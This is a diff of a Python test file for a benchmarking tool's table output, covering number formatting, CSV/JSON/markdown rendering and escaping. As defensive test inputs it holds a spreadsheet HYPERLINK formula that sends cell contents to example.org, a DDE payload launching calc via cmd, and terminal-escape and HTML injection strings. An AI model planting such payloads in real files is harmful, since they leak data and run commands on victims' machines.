@@ -1,9 +1,10 @@
-"""A table that is opened in a spreadsheet runs nothing that a trace is called."""
+"""Tables as rows and columns: every output has the same values, and no name from outside acts on any of them."""
 
 import csv
 import io
+import json
+import re
 from pathlib import Path
-from typing import Literal
 
 import pandas as pd
 import pytest
@@ -11,17 +12,52 @@ from support.commands import text
 from support.fake_run import noisy_times, step_rows, write_trial
 from support.page import report_page
 from support.profiles import kineto
+from support.refusals import refused
 
+from analysis.diagnose.finding import Finding, plain_rows
 from analysis.load import load_run
-from analysis.render.page import Badge, Callout, Page, Section, write_page
+from analysis.render.finding_tables import finding_blocks, table_of
+from analysis.render.markdown import blocks_markdown, escaped
+from analysis.render.page import Page, Section, Text, write_page
 from analysis.render.result_tables import results_blocks
-from analysis.render.tables import Column, Table, build, measured, plain, spread, texts, write_csv, write_frame
-from analysis.wording import UNKNOWN, batch, inert
+from analysis.render.tables import (
+    Facts,
+    Plain,
+    Table,
+    computed,
+    measured,
+    plain,
+    sort_key,
+    spread,
+    texts,
+    write_csv,
+    write_frame,
+)
+from analysis.render.terminal import block_texts
+from analysis.wording import FORMS, UNKNOWN, batch, inert, interval
 from bench.cli.main import run
+from bench.cli.result import document, write_csvs
 from bench.plan.script import plan_script
 from records.run import RunDirectory
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
+
+
+@pytest.mark.parametrize(
+    ("form", "value", "expected"),
+    [
+        ("number", 0.01234, "0.0123"), ("number", 8.164, "8.16"), ("number", 181.7, "182"), ("number", 0, "0"),
+        ("number", 18148.2, "18,148"), ("number", None, UNKNOWN), ("number", float("nan"), UNKNOWN),
+        ("percent", 0.4537, "45.4 %"), ("percent", 1.81, "181 %"), ("signed", -0.0312, "-3.1 %"),
+        ("size", 1536 * 2**20, "1.50 GiB"), ("size", 12, "12.0 B"), ("traffic", 67_108_864, "67.1 MB"),
+        ("flops", 1.234e12, "1.23 TFLOP/s"),
+        ("flops", 999.7e12, "1 PFLOP/s"), ("flops", 5e18, "5,000 PFLOP/s"), ("flops", 0, "0 FLOP/s"),
+        ("count", 1234567.0, "1,234,567"), ("text", 0, "0"), ("text", "", UNKNOWN),
+    ],
+)  # fmt: skip
+def test_how_numbers_are_written(form: str, value: object, expected: str) -> None:
+    assert FORMS[form](value) == expected
+    assert interval(27.88, 28.081) == "27.88\N{EN DASH}28.08" and interval(None, 3) == UNKNOWN
 
 
 @pytest.mark.parametrize("cell", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
@@ -41,16 +77,13 @@ def test_every_way_to_write_a_table_keeps_formulas_out(tmp_path: Path) -> None:
     for name in ("a.csv", "b.csv"):
         rows = list(csv.reader(io.StringIO((tmp_path / name).read_text(encoding="utf-8"))))
         assert rows[0][-1] == rows[1][0] == f"'{FORMULA}" and rows[1][1] == "-1"
-    assert frame["name"][0] == FORMULA, "the frame itself is not changed"
 
 
-def test_a_kernel_called_like_a_formula_is_none_in_the_tables_of_a_report(
-    tmp_path: Path, capfd: pytest.CaptureFixture[str]
-) -> None:
-    text = kineto()
-    text = text.decode() if isinstance(text, bytes) else text
+def test_a_kernel_called_like_a_formula_is_none_in_the_tables_of_a_report(tmp_path: Path) -> None:
+    content = kineto()
+    content = content.decode() if isinstance(content, bytes) else content
     path = tmp_path / "a.json"
-    path.write_text(text.replace('"name": "', '"name": "=1+'))
+    path.write_text(content.replace('"name": "', '"name": "=1+'))
     assert run(["analyze", str(path), "--csv", str(tmp_path / "csv")]) == 0
     cells = [
         cell
@@ -61,33 +94,16 @@ def test_a_kernel_called_like_a_formula_is_none_in_the_tables_of_a_report(
     assert any(cell.startswith("'=1+") for cell in cells) and not any(cell.startswith("=") for cell in cells)
 
 
-def test_a_zero_in_a_column_of_text_is_no_dash() -> None:
-    table = build("t", [plain("seed", "seed")], [{"seed": 0}, {"seed": None}, {"seed": ""}])
-    assert [row[0].text for row in table.rows] == ["0", UNKNOWN, UNKNOWN]
-
-
 def test_rows_of_a_csv_file_have_full_precision_and_unknown_values_as_none() -> None:
     columns = [plain("run", "name"), measured("step ms", "step_time_ms"), spread("step_time_ms"),
-               Column("batch", batch, batch)]  # fmt: skip
+               computed("batch", batch)]  # fmt: skip
     row = {"name": "a", "step_time_ms": 1.23456789, "step_time_ms_low": 1.2, "step_time_ms_high": None,
-           "micro_batch_size": 8, "grad_accum_steps": 2, "trial_id": "t-1"}  # fmt: skip
-    table = build("steps", columns, [row])
+           "micro_batch_size": 8, "grad_accum_steps": 2}  # fmt: skip
+    table = Table("steps", columns, [row])
     names = ("name", "step_time_ms", "step_time_ms_low", "step_time_ms_high")
     assert table.csv_rows() == [{name: row[name] for name in names} | {"batch": batch(row)}]
-    assert table.trials == ("t-1",)
     assert texts("t", ["name", "ms"], [["a", UNKNOWN]]).csv_rows() == [{"name": "a", "ms": ""}]
-
-
-@pytest.mark.parametrize("style", ["caution", "good", "plain"])
-def test_badges_and_callouts_escape_their_words_and_name_their_style(
-    tmp_path: Path, style: Literal["caution", "good", "plain"]
-) -> None:
-    blocks = [Badge("<b>1 & 2", style), Callout("Do <i>this", ["run `bertbench doctor`"])]
-    path, *others = write_page(Page("p", "e", [Section("s", blocks)]), tmp_path)
-    page = path.read_text(encoding="utf-8")
-    assert not others and f'<p class="badge {style}">&lt;b&gt;1 &amp; 2</p>' in page
-    callout = page[page.index('<div class="callout first">') :]
-    assert "Do &lt;i&gt;this" in callout and "<code>bertbench doctor</code>" in callout
+    assert [sort_key(column, row) for column in columns] == ["a", 1.23456789, 1.2, batch(row)]
 
 
 @pytest.mark.parametrize("sizes", [("8", "16"), ("8", "8")])
@@ -97,14 +113,92 @@ def test_scripts_of_one_name_are_distinguished_by_their_arguments(sizes: tuple[s
         command = ("python", "train.py", "--batch", size, "\x1b[31m<b>", "x" * 80)
         trial = plan_script(folder, command, "train.py")
         write_trial(folder, trial, {0: step_rows(noisy_times(10.0, 30, number), 8)})
-    table = next(
-        block for block in results_blocks([trial.row for trial in load_run(folder)]) if isinstance(block, Table)
-    )
-    assert ("arguments" in table.headings) == (sizes[0] != sizes[1])
+    table = results_blocks([trial.row for trial in load_run(folder)])[0]
+    assert isinstance(table, Table) and ("arguments" in table.headings) == (sizes[0] != sizes[1])
     if sizes[0] != sizes[1]:
-        cells = [row[table.headings.index("arguments")] for row in table.rows]
-        assert {cell.text[:11].split()[1] for cell in cells} == {"8", "16"}
-        assert all(len(cell.text) == 60 and cell.title.startswith("python train.py") for cell in cells)
-        shown = text([table])
-        assert "--batch 16" in shown and "\x1b" not in shown
+        cells = [row[table.headings.index("arguments")] for row in table.texts()]
+        assert {cell[:11].split()[1] for cell in cells} == {"8", "16"} and {len(cell) for cell in cells} == {60}
+        assert "--batch 16" in text([table]) and "\x1b" not in text([table])
         assert "<b>" not in report_page(folder).read_text(encoding="utf-8")
+
+
+def finding(rows: int = 3) -> Finding:
+    frame = pd.DataFrame(
+        {
+            "name": [f"kernel {number}" for number in range(rows)],
+            "calls": range(1000, 1000 + rows),
+            "total_ms": [12.3456] * rows,
+            "busbw_gb_s": [float("nan")] * rows,
+            "share": [0.25] * rows,
+            "bytes": pd.array([2048] * (rows - 1) + [pd.NA], dtype="Int64"),
+        }
+    )
+    return Finding("top_kernels", "Kernels", frame, "Most of the time is spent here.")
+
+
+def test_headings_have_units_and_values_their_form() -> None:
+    table = table_of(finding())
+    assert table.headings == ["name", "calls", "total ms", "busbw GB/s", "share", "bytes"]
+    assert table.texts()[0] == ["kernel 0", "1,000", "12.3", UNKNOWN, "25.0 %", "2.05 kB"]
+    assert table.texts()[2][5] == UNKNOWN, "an unknown number is no 0"
+    assert table.numeric == [False, True, True, False, True, True]
+
+
+def test_json_has_full_precision_and_null_for_unknown() -> None:
+    shown = json.loads(json.dumps(document([finding()], ["lost"], path="x"), allow_nan=False))
+    row = {"name": "kernel 2", "calls": 1002, "total_ms": 12.3456, "busbw_gb_s": None, "share": 0.25, "bytes": None}
+    assert shown["findings"]["top_kernels"]["rows"][2] == row
+    assert shown["problems"] == ["lost"] and shown["path"] == "x"
+    frame = pd.DataFrame({"a": pd.Categorical(["x"]), "b": [[1, 2]], "c": [pd.Timestamp("2024-01-01")]})
+    assert plain_rows(frame) == [{"a": "x", "b": [1, 2], "c": "2024-01-01 00:00:00"}]
+
+
+def test_csv_files_hold_every_row(tmp_path: Path) -> None:
+    (path,) = write_csvs([finding(300), Finding("empty", "E", pd.DataFrame())], tmp_path / "new")
+    assert path.name == "top_kernels.csv" and len(pd.read_csv(path)) == 300
+    (tmp_path / "file").write_text("")
+    with refused("write-failed", tmp_path / "file" / "below"):
+        write_csvs([finding()], tmp_path / "file" / "below")
+
+
+def test_a_hostile_name_cannot_act_on_a_terminal() -> None:
+    frame = pd.DataFrame({"name": ["\x1b[2J[bold]x[/bold]", "a\nb"], "calls": [1, 2]})
+    shown = text(finding_blocks([Finding("x", "T\x1b", frame, "S\x07.")]))
+    assert "\x1b" not in shown and "\x07" not in shown and "[bold]x[/bold]" in shown and "a b" in shown
+
+
+def test_a_narrow_terminal_keeps_numbers_whole_and_names_the_columns_that_it_leaves_out() -> None:
+    table = texts("t", ["name", "a very long heading", "ms"], [["x" * 30, "1,234,567", "8.16"]], "Title")
+    lines = text([table], 34).splitlines()
+    assert (
+        lines[0].strip() == "Title"
+        and "1,234,567" in text([table], 34)
+        and all(len(line) <= 34 or "left out" in line for line in lines)
+    )
+    assert lines[-1].endswith("ms") and "8.16" not in text([table], 34) and "8.16" in text([table], 80)
+
+
+def test_the_first_block_comes_before_the_second_is_drawn() -> None:
+    lines = block_texts(["a sentence", None])  # type: ignore[list-item]
+    assert next(lines) == "a sentence"
+    with pytest.raises(AttributeError):
+        next(lines)
+
+
+def test_markdown_keeps_columns_and_shows_texts_as_they_are() -> None:
+    table = texts("t", ["name", "ms"], [["a|b", "1.5"], ["<img src=x>\n# c", "2"]])
+    heading, rule, *rows = blocks_markdown([table]).splitlines()
+    assert heading == "| name | ms |" and rule == "| --- | ---: |"
+    assert rows == ["| a\\|b | 1.5 |", "| \\<img src=x\\> \\# c | 2 |"]
+    shown = blocks_markdown(["a *b* [c](d)", Facts([("run_1", "x")], "T"), Plain("bertbench a_b\n<c>")])
+    assert shown == "a \\*b\\* \\[c\\](d)\n\n**T**\n\n- run\\_1: x\n\n    bertbench a_b\n    <c>\n"
+    assert re.sub(r"\\(.)", r"\1", escaped("\\`*_{}[]<>|~#&$! a\tb")) == "\\`*_{}[]<>|~#&$! a b"
+
+
+def test_a_page_escapes_its_words_and_sets_commands_apart(tmp_path: Path) -> None:
+    blocks = [Text("<b>1 & 2", "badge good"), Section("Do <i>this", ["run `bertbench doctor`"], "first")]
+    path, *others = write_page(Page("p", "e", [Section("s", blocks)]), tmp_path)
+    page = path.read_text(encoding="utf-8")
+    assert not others and '<p class="badge good">&lt;b&gt;1 &amp; 2</p>' in page
+    first = page[page.index('class="first"') :]
+    assert "Do &lt;i&gt;this" in first and "<code>bertbench doctor</code>" in first
